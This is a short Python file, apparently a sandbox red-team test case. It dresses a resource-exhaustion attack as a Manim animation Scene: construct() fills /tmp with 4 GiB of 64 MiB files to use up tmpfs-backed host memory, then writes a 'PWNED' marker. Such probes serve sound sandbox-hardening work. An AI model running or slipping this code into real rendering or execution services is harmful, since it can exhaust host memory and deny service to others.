# family: resource
# layer: sandbox
# attack: fill /tmp (host memory, as tmpfs) with 4 GiB
from manim import *


class Attack(Scene):
    def construct(self):
        chunk = b"x" * (64 << 20)
        for i in range(64):
            with open(f"/tmp/fill{i}", "wb") as f:
                f.write(chunk)
        open("loot.txt", "w").write("T2M-" "PWNED 4 GiB in /tmp")
        self.wait(0.1)
